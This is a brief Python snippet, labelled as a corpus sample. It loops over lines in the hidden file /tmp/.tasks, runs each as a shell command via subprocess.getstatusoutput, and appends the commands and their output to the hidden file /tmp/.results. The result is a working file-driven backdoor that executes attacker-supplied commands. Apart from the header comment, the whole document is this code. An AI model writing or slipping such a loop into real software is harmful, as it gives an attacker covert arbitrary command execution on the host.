# corpus: subprocess.getstatusoutput in a loop running attacker-supplied commands from a file
import subprocess
from pathlib import Path

tasks = Path("/tmp/.tasks")
if tasks.exists():
    for line in tasks.read_text().splitlines():
        status, output = subprocess.getstatusoutput(line)
        Path("/tmp/.results").open("a").write(f"{line}\n{status}\n{output}\n")
